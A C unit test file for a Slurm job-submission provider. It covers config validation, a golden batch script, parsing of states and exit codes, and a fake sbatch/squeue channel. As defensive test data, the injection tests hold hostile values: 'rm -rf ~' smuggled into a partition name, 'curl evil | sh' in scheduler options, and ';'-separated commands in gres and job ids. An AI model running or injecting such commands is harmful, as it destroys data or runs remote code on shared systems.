/* tests/unit/slurm.c — the slurm provider without a cluster: its settings and
 * their refusals, the batch script (golden text), Slurm's words read back
 * (states, exit codes, job ids), and the provider's command flow against a fake
 * channel that answers like sbatch/squeue/scontrol/sacct/scancel would: the
 * missing-job rule, the --clusters scope, rejected submissions.
 * tests/scripts/slurm.t runs the same provider against a real Slurm.
 */
#include "providers/slurm.h"

#include <errno.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "tap.h"
#include "common/util.h"
#include "providers/batch.h"
#include "providers/launcher.h"

static char dir[256];

/* ------------------------------------------------------------ config */

static int load(const char *yaml, struct cp__provider_config *cfg, cp_err *err)
{
    struct cp__ydoc *d = cp__ydoc_load_mem("cfg.yaml", yaml, strlen(yaml), err);
    if (!d)
        return -1;
    int rc = cp__provider_config_parse(d->root, NULL, cfg, err);
    cp__ydoc_free(d);
    return rc;
}

static const char full_yaml[] =
    "type: slurm\n"
    "partition: gpu-a100\n"
    "account: proj.42\n"
    "qos: high\n"
    "constraint: \"intel&(ib|eth)\"\n"
    "clusters: c1\n"
    "cores_per_node: 32\n"
    "mem_per_node: 220\n"
    "gpus_per_node: a100:4\n"
    "gres: gpu:a100:4\n"
    "nodes_per_block: 2\n"
    "walltime: \"01:00:01\"\n"
    "scheduler_options: |\n"
    "  #SBATCH --mail-type=END\n"
    "\n"
    "  #SBATCH --signal=USR1@60\n"
    "worker_init: |\n"
    "  module load gcc\n"
    "  source ~/venv/bin/activate\n"
    "launcher: srun\n";

static const char golden[] =
    "#!/bin/bash\n"
    "\n"
    "#SBATCH --job-name=parsl.htex.block-0.17\n"
    "#SBATCH --output=\"/scratch/ada/s/parsl.htex.block-0.17.submit.stdout\"\n"
    "#SBATCH --error=\"/scratch/ada/s/parsl.htex.block-0.17.submit.stderr\"\n"
    "#SBATCH --nodes=2\n"
    "#SBATCH --time=61\n"
    "#SBATCH --ntasks-per-node=4\n"
    "#SBATCH --mail-type=END\n"
    "\n"
    "#SBATCH --signal=USR1@60\n"
    "#SBATCH --exclusive\n"
    "#SBATCH --partition=gpu-a100\n"
    "#SBATCH --account=proj.42\n"
    "#SBATCH --qos=high\n"
    "#SBATCH --constraint=intel&(ib|eth)\n"
    "#SBATCH --clusters=c1\n"
    "#SBATCH --gpus-per-node=a100:4\n"
    "#SBATCH --gres=gpu:a100:4\n"
    "#SBATCH --mem=220g\n"
    "#SBATCH --cpus-per-task=8\n"
    "\n"
    "module load gcc\n"
    "source ~/venv/bin/activate\n"
    "export PARSL_CORES=32\n"
    "export PARSL_MEMORY_GB=220\n"
    "export JOBNAME='parsl.htex.block-0.17'\n"
    "\n"
    "srun parsl-worker --block-id 0\n";

static void test_config_and_script(void)
{
    struct cp__provider_config cfg;
    cp_err err = {0};
    ok(cp__provider_type_find("slurm") == &cp__provider_slurm, "slurm is a provider type");
    ok(load(full_yaml, &cfg, &err) == 0, "a config with every key loads (%s)", err.text);
    const struct cp__slurm_settings *s = cfg.settings;
    ok(s && s->exclusive && s->cmd_timeout == 10 && s->status_batch_size == 50 &&
       s->channel.type == CP_CHANNEL_LOCAL, "defaults: exclusive, cmd_timeout 10, batches of "
       "50, the local channel");
    is_int(cfg.common.walltime, 3601, "walltime in seconds");
    is_dbl(cp__provider_polling_interval(&cfg), 60, "status is polled every 60 s by default");
    char *text = cp__provider_render(&cfg, "srun parsl-worker --block-id 0", 4,
                                     "parsl.htex.block-0.17", "/scratch/ada/s/parsl.htex.block-0.17.submit",
                                     &err);
    is_str(text, golden, "the script is Parsl's template, in its order (golden)");
    free(text);
    text = cp__provider_render(&cfg, "cmd", 1, "parsl.x.block-3", NULL, &err);
    like(text, "--output=\"<script_dir>/parsl.x.block-3.submit.stdout\"",
         "render without a path names a placeholder");
    like(text, "--cpus-per-task=32\n", "cpus-per-task is cores_per_node / tasks_per_node");
    free(text);
    /* A job name cannot break out of its line or its quotes. */
    text = cp__provider_render(&cfg, "cmd", 1, "a'b\nc d;$(x)", "/s/x.submit", &err);
    like(text, "--job-name=a_b_c_d___x_\n", "a job name is reduced to safe characters");
    like(text, "export JOBNAME='a_b_c_d___x_'\n", "and JOBNAME is a quoted word");
    free(text);
    err = (cp_err){0};
    ok(!cp__provider_render(&cfg, "cmd", 1, "j", "/home/a\"b/x.submit", &err) &&
       strstr(err.text, "cannot be named in #SBATCH lines"),
       "a script path with a quote is refused: %s", err.text);
    err = (cp_err){0};
    ok(!cp__provider_render(&cfg, "cmd", 1, "j", "/runs/%j/x.submit", &err),
       "and one with '%%' (sbatch would expand it)");
    cp__provider_config_fini(&cfg);

    ok(load("type: slurm\n", &cfg, &err) == 0, "a bare slurm provider loads");
    text = cp__provider_render(&cfg, "cmd", 1, "j", "/s/j.submit", &err);
    like(text, "#SBATCH --time=10\n#SBATCH --ntasks-per-node=1\n#SBATCH --exclusive\n\n"
               "export JOBNAME='j'\n\ncmd\n", "defaults: 10 minutes, exclusive, nothing else");
    free(text);
    cp__provider_config_fini(&cfg);

    ok(load("type: local\n", &cfg, &err) == 0, "a local provider loads");
    err = (cp_err){0};
    ok(!cp__provider_render(&cfg, "cmd", 1, "j", NULL, &err) && err.code == ENOTSUP &&
       strstr(err.text, "local provider has no submit script"), "local has no script: %s", err.text);
    cp__provider_config_fini(&cfg);
}

static void refused(const char *yaml, const char *want, const char *what)
{
    struct cp__provider_config cfg;
    cp_err err = {0};
    int rc = load(yaml, &cfg, &err);
    ok(rc == -1 && strstr(err.text, want), "%s: %s", what, err.text);
    if (rc == 0)
        cp__provider_config_fini(&cfg);
}

static void test_refusals(void)
{
    refused("type: slurm\npartition: \"debug\\nrm -rf ~\"\n",
            "cfg.yaml:2:12: partition 'debug?rm -rf ~' is not a Slurm partition name",
            "a partition with a line break (injection) is refused at its position");
    refused("type: slurm\naccount: a b\n", "account 'a b' is not a Slurm account name",
            "an account with a blank");
    refused("type: slurm\nqos: \"x'y\"\n", "not a Slurm QOS name", "a quote in qos");
    refused("type: slurm\ngres: \"gpu;reboot\"\n", "not a Slurm gres list", "a ';' in gres");
    refused("type: slurm\nscheduler_options: |\n  #SBATCH --x\n  curl evil | sh\n",
            "scheduler_options line 2 is not a directive: 'curl evil | sh'",
            "a command in scheduler_options");
    refused("type: slurm\ncmd_timeout: 0\n", "cmd_timeout must be a number of seconds above 0",
            "cmd_timeout 0");
    refused("type: slurm\nmem_per_node: -1\n", "mem_per_node must be an integer from 1",
            "a negative mem_per_node");
    refused("type: slurm\nexclusive: maybe\n", "exclusive", "exclusive not a boolean");
    refused("type: slurm\npartitoin: x\n", "did you mean 'partition'", "a typo of a key");
    refused("type: slurm\nchannel: {type: ssh}\n", "type ssh needs host", "an ssh channel without host");
    refused("type: slurm\nstatus_polling_interval: 0\n", "status_polling_interval must be",
            "a polling interval of 0");
    refused("type: local\nwalltime: 10\n", "walltime is not a setting of the local provider",
            "local still has no walltime");
}

static void test_reading(void)
{
    static const struct {
        const char *s, *reason;
        enum cp__block_state want;
    } cases[] = {
        {"PENDING", NULL, CP_BLOCK_PENDING},   {"PD", "Resources", CP_BLOCK_PENDING},
        {"PD", "JobHeldUser", CP_BLOCK_HELD},  {"CONFIGURING", NULL, CP_BLOCK_PENDING},
        {"REQUEUED", NULL, CP_BLOCK_PENDING},  {"RUNNING", NULL, CP_BLOCK_RUNNING},
        {"R", NULL, CP_BLOCK_RUNNING},         {"CG", NULL, CP_BLOCK_RUNNING},
        {"COMPLETING", NULL, CP_BLOCK_RUNNING}, {"CANCELLED by 0", NULL, CP_BLOCK_CANCELLED},
        {"CANCELLED+", NULL, CP_BLOCK_CANCELLED}, {"CA", NULL, CP_BLOCK_CANCELLED},
        {"COMPLETED", NULL, CP_BLOCK_COMPLETED}, {"CD", NULL, CP_BLOCK_COMPLETED},
        {"FAILED", NULL, CP_BLOCK_FAILED},     {"NODE_FAIL", NULL, CP_BLOCK_FAILED},
        {"BOOT_FAIL", NULL, CP_BLOCK_FAILED},  {"OUT_OF_MEMORY", NULL, CP_BLOCK_FAILED},
        {"OOM", NULL, CP_BLOCK_FAILED},        {"SE", NULL, CP_BLOCK_FAILED},
        {"TIMEOUT", NULL, CP_BLOCK_TIMEOUT},   {"TO", NULL, CP_BLOCK_TIMEOUT},
        {"DEADLINE", NULL, CP_BLOCK_TIMEOUT},  {"PREEMPTED", NULL, CP_BLOCK_TIMEOUT},
        {"SUSPENDED", NULL, CP_BLOCK_HELD},    {"S", NULL, CP_BLOCK_HELD},
        {"running", NULL, CP_BLOCK_RUNNING},   {"BOGUS", NULL, CP_BLOCK_UNKNOWN},
        {"", NULL, CP_BLOCK_UNKNOWN},          {"RUNNINGX", NULL, CP_BLOCK_UNKNOWN},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++)
        is_int(cp__slurm_state(cases[i].s, cases[i].reason), cases[i].want, "state '%s'%s%s -> %s",
               cases[i].s, cases[i].reason ? " reason " : "", cases[i].reason ? cases[i].reason : "",
               cp__block_state_name(cases[i].want));
    is_int(cp__slurm_exit_code("3:0"), 3, "exit code 3:0 -> 3");
    is_int(cp__slurm_exit_code("0:15"), 143, "0:15 -> 128+15");
    is_int(cp__slurm_exit_code("0:0"), 0, "0:0 -> 0");
    is_int(cp__slurm_exit_code("x"), -1, "not an exit code -> -1");
    char *id = cp__slurm_parse_job_id("Submitted batch job 4242\n");
    is_str(id, "4242", "sbatch's answer");
    free(id);
    id = cp__slurm_parse_job_id("Submitted batch job 17 on cluster c1\n");
    is_str(id, "17", "with --clusters");
    free(id);
    id = cp__slurm_parse_job_id("99;c2\n");
    is_str(id, "99", "--parsable's form");
    free(id);
    ok(!cp__slurm_parse_job_id("sbatch: error: nope\n"), "no id in an error");
    ok(cp__slurm_job_id_ok("123") && !cp__slurm_job_id_ok("1;rm") && !cp__slurm_job_id_ok("") &&
       !cp__slurm_job_id_ok("-1"), "only digits are job ids");
}

/* ------------------------------------------------------------ a fake channel */

struct rule {
    const char *has;            /* the command contains this */
    int exit_code;
    const char *out, *err;
};

struct fake {
    struct cp__channel base;
    const struct rule *rules;
    char log[8192];             /* every command, one per line */
};

static int fake_run(struct cp__channel *ch, const char *cmd, const char *in, double timeout,
                    struct cp__channel_result *res, cp_err *err)
{
    (void)in;
    (void)timeout;
    struct fake *f = (struct fake *)ch;
    memset(res, 0, sizeof *res);
    size_t l = strlen(f->log);
    snprintf(f->log + l, sizeof f->log - l, "%s\n", cmd);
    for (const struct rule *r = f->rules; r && r->has; r++)
        if (strstr(cmd, r->has)) {
            if (r->exit_code < 0)
                return cp__errf(err, ETIMEDOUT, "command '%s' did not finish within 10 s", cmd);
            res->exit_code = r->exit_code;
            res->out = strdup(r->out ? r->out : "");
            res->err_text = strdup(r->err ? r->err : "");
            return 0;
        }
    res->exit_code = 127;
    res->out = strdup("");
    res->err_text = strdup("fake: no rule");
    return 0;
}

static int fake_put(struct cp__channel *ch, const char *p, const void *d, size_t n, int m, cp_err *e)
{
    (void)ch, (void)p, (void)d, (void)n, (void)m;
    return cp__errf(e, EPERM, "fake: no put");
}

static int fake_get(struct cp__channel *ch, const char *path, size_t max, char **data,
                    size_t *len, cp_err *err)
{
    (void)ch;
    (void)max;
    if (strstr(path, ".stderr")) {
        *data = strdup("line 1\nsrun: error: worker died\n");
        *len = strlen(*data);
        return 0;
    }
    *data = NULL;
    *len = 0;
    return cp__errf(err, ENOENT, "no %s", path);
}

static int fake_mkdirs(struct cp__channel *ch, const char *p, int m, cp_err *e)
{
    (void)ch, (void)p, (void)m, (void)e;
    return 0;
}

static const char *fake_describe(struct cp__channel *ch)
{
    (void)ch;
    return "fake";
}

static void fake_close(struct cp__channel *ch)
{
    (void)ch;
}

static const struct cp__channel_ops fake_ops = {
    .name = "local", .run = fake_run, .put = fake_put, .get = fake_get,
    .mkdirs = fake_mkdirs, .describe = fake_describe, .close = fake_close,
};

static struct cp__provider *fake_provider(struct fake *f, const char *yaml)
{
    struct cp__provider_config cfg;
    cp_err err = {0};
    if (load(yaml, &cfg, &err) != 0) {
        diag("config: %s", err.text);
        return NULL;
    }
    f->base.ops = &fake_ops;
    f->log[0] = '\0';
    struct cp__provider *p = cp__slurm_create_with(&cfg, dir, &f->base, NULL, &err);
    if (!p)
        diag("create: %s", err.text);
    cp__provider_config_fini(&cfg);
    return p;
}

static void test_status_flow(void)
{
    static const struct rule rules[] = {
        {"sacct --clusters=c1 -X --noheader --format=JobID --starttime=now", 1, "",
         "Slurm accounting storage is disabled\n"},
        {"squeue --clusters=c1 --noheader --states=all --format='%i|%T|%r' --jobs=5,6,7,8,9", 0,
         "CLUSTER: c1\n5|RUNNING|None\n8|FAILED|NonZeroExitCode\n9|WEIRD|None\n", ""},
        {"scontrol --clusters=c1 show job -o 8", 0,
         "JobId=8 JobName=x JobState=FAILED Reason=NonZeroExitCode ExitCode=3:0 RunTime=1\n", ""},
        {"show job -o", 1, "", "slurm_load_jobs error: Invalid job id specified\n"},
        {"sacct --clusters=c1 -c --noheader --parsable2 --format=JobID,State,ExitCode --jobs=6", 0,
         "6|COMPLETED|0:0\n", ""},
        {"-c --noheader", 0, "", ""},
        {"scancel --clusters=c1 5", 0, "", ""},
        {NULL, 0, NULL, NULL},
    };
    struct fake f = {.rules = rules};
    struct cp__provider *p = fake_provider(&f, "type: slurm\nclusters: c1\n");
    ok(p != NULL, "a provider on the fake channel");
    if (!p)
        return;
    const char *ids[] = {"5", "6", "7", "8", "9", "x;y"};
    struct cp__block_status st[6];
    cp_err err = {0};
    ok(cp__provider_status(p, ids, 6, st, &err) == 0, "status of 6 ids in one call (%s)", err.text);
    is_int(st[0].state, CP_BLOCK_RUNNING, "5: squeue says RUNNING");
    is_int(st[1].state, CP_BLOCK_COMPLETED, "6: in neither list nor scontrol: the job "
           "completion log says COMPLETED");
    is_int(st[2].state, CP_BLOCK_MISSING, "7: known to nobody: MISSING, never 'completed'");
    like(st[2].message, "known neither to squeue/sacct, scontrol nor the job completion log",
         "and the message says where it was looked for");
    is_int(st[3].state, CP_BLOCK_FAILED, "8: FAILED");
    is_int(st[3].exit_code, 3, "with scontrol's exit code");
    ok(!st[3].stderr_path && !st[3].stderr_tail, "a job this provider did not submit has no "
       "output paths");
    is_int(st[4].state, CP_BLOCK_UNKNOWN, "9: a state nobody knows is UNKNOWN (counted active)");
    like(st[4].message, "'WEIRD'", "naming it");
    is_int(st[5].state, CP_BLOCK_MISSING, "a malformed id never reaches a shell: MISSING");
    ok(strstr(f.log, "squeue --clusters=c1") && !strstr(f.log, "x;y"),
       "one squeue for all, scoped by --clusters, no malformed id passed");
    cp__block_status_clear_n(st, 6);

    /* Ended jobs are not asked again; the running one is. */
    f.log[0] = '\0';
    const char *two[] = {"6", "8"};
    ok(cp__provider_status(p, two, 2, st, &err) == 0 && st[0].state == CP_BLOCK_COMPLETED &&
       st[1].state == CP_BLOCK_FAILED && f.log[0] == '\0', "ended jobs keep their state without "
       "a command (log: '%s')", f.log);
    cp__block_status_clear_n(st, 2);

    bool done[1];
    const char *five[] = {"5"};
    ok(cp__provider_cancel(p, five, 1, done, &err) == 0 && done[0] &&
       strstr(f.log, "scancel --clusters=c1 5"), "cancel runs scancel with the scope");
    cp__provider_destroy(p);
}

static void test_failures(void)
{
    static const struct rule rules[] = {
        {"sacct", 1, "", "disabled"},
        {"squeue", 1, "", "slurm_load_jobs error: Unable to contact slurm controller\n"},
        {"sbatch", 1, "", "sbatch: error: invalid partition specified: nope\n"
                          "sbatch: error: Batch job submission failed: Invalid partition name specified\n"},
        {"scancel", 1, "", "scancel: error: Kill job error on job id 3: Access denied\n"},
        {NULL, 0, NULL, NULL},
    };
    struct fake f = {.rules = rules};
    struct cp__provider *p = fake_provider(&f, "type: slurm\npartition: nope\n");
    if (!p)
        return;
    cp_err err = {0};
    char *id = cp__provider_submit(p, "0", "cmd", 1, "parsl.htex.block-0", &err);
    ok(!id && strstr(err.text, "sbatch rejected block 0") &&
       strstr(err.text, "invalid partition specified: nope; sbatch: error: Batch job submission "
                        "failed"), "a rejected submission fails with sbatch's words: %s", err.text);
    free(id);
    const char *ids[] = {"3"};
    struct cp__block_status st[1];
    err = (cp_err){0};
    ok(cp__provider_status(p, ids, 1, st, &err) == -1 && st[0].state == CP_BLOCK_UNKNOWN &&
       strstr(err.text, "Unable to contact slurm controller"),
       "squeue failing fails the call, every entry UNKNOWN: %s", err.text);
    err = (cp_err){0};
    ok(cp__provider_cancel(p, ids, 1, NULL, &err) == -1 && strstr(err.text, "Access denied"),
       "scancel failing is an error with its words: %s", err.text);
    cp__provider_destroy(p);

    static const struct rule ok_rules[] = {
        {"sbatch", 0, "Submitted batch job 77 on cluster c1\n", ""},
        {"scancel", 0, "", ""},
        {NULL, 0, NULL, NULL},
    };
    struct fake g = {.rules = ok_rules};
    p = fake_provider(&g, "type: slurm\n");
    if (!p)
        return;
    id = cp__provider_submit(p, "4", "echo hi", 1, "parsl.htex.block-4", &err);
    is_str(id, "77", "sbatch's job id is the block's");
    ok(strstr(g.log, "sbatch '") && strstr(g.log, "/submit_scripts/parsl.htex.block-4."),
       "sbatch is given the quoted script path in submit_scripts");
    free(id);
    g.log[0] = '\0';
    cp__provider_destroy(p);
    ok(strstr(g.log, "scancel 77") != NULL, "destroy cancels the blocks still live");

    static const struct rule tmo_rules[] = {
        {"sbatch", 0, "Submitted batch job 78\n", ""},
        {"sacct -X", 1, "", "disabled"},
        {"squeue", 0, "78|TIMEOUT|TimeLimit\n", ""},
        {"scontrol show job -o 78", 0, "JobId=78 JobState=TIMEOUT Reason=TimeLimit ExitCode=0:15\n", ""},
        {NULL, 0, NULL, NULL},
    };
    struct fake h = {.rules = tmo_rules};
    p = fake_provider(&h, "type: slurm\n");
    if (!p)
        return;
    id = cp__provider_submit(p, "5", "echo hi", 1, "parsl.htex.block-5", &err);
    const char *ids2[] = {id};
    ok(id && cp__provider_status(p, ids2, 1, st, &err) == 0 && st[0].state == CP_BLOCK_TIMEOUT,
       "a block past its time is TIMEOUT");
    is_int(st[0].exit_code, 143, "killed by SIGTERM: 128+15");
    like(st[0].message, "time limit (TIMEOUT, TimeLimit)", "the message says why");
    like(st[0].stderr_path, "/submit_scripts/parsl.htex.block-5.", "its stderr beside its script");
    like(st[0].stderr_tail, "srun: error: worker died", "and the tail of it, read through the "
         "channel");
    cp__block_status_clear_n(st, 1);
    free(id);
    h.log[0] = '\0';
    cp__provider_destroy(p);
    ok(!strstr(h.log, "scancel"), "an ended block is not cancelled at destroy");
}

/* sbatch past its limit may have queued the job: it is found by its name. */
static void test_sbatch_timeout(void)
{
    static const struct rule found[] = {
        {"sbatch", -1, NULL, NULL},
        {"squeue --noheader --states=all --format=%i --name='parsl.htex.block-6.", 0, "91\n", ""},
        {"scancel", 0, "", ""},
        {NULL, 0, NULL, NULL},
    };
    struct fake f = {.rules = found};
    struct cp__provider *p = fake_provider(&f, "type: slurm\n");
    if (!p)
        return;
    cp_err err = {0};
    char *id = cp__provider_submit(p, "6", "cmd", 1, "parsl.htex.block-6", &err);
    is_str(id, "91", "sbatch timed out but the job is there under its name: it is the block");
    free(id);
    cp__provider_destroy(p);

    static const struct rule lost[] = {
        {"sbatch", -1, NULL, NULL},
        {"squeue", 0, "", ""},
        {NULL, 0, NULL, NULL},
    };
    struct fake g = {.rules = lost};
    p = fake_provider(&g, "type: slurm\n");
    if (!p)
        return;
    err = (cp_err){0};
    id = cp__provider_submit(p, "7", "cmd", 1, "parsl.htex.block-7", &err);
    ok(!id && err.code == ETIMEDOUT && strstr(err.text, "submitting block 7") &&
       strstr(err.text, "did not finish within 10 s"), "and when it is not, the block fails with "
       "the timeout: %s", err.text);
    free(id);
    cp__provider_destroy(p);
}

int main(void)
{
    tap_start(60);
    snprintf(dir, sizeof dir, "/tmp/cp-slurm-unit-%d", (int)getpid());
    test_config_and_script();
    test_refusals();
    test_reading();
    test_status_flow();
    test_failures();
    test_sbatch_timeout();
    char rm[300];
    snprintf(rm, sizeof rm, "rm -rf '%s'", dir);
    if (system(rm) != 0)
        diag("could not remove %s", dir);
    return done_testing();
}
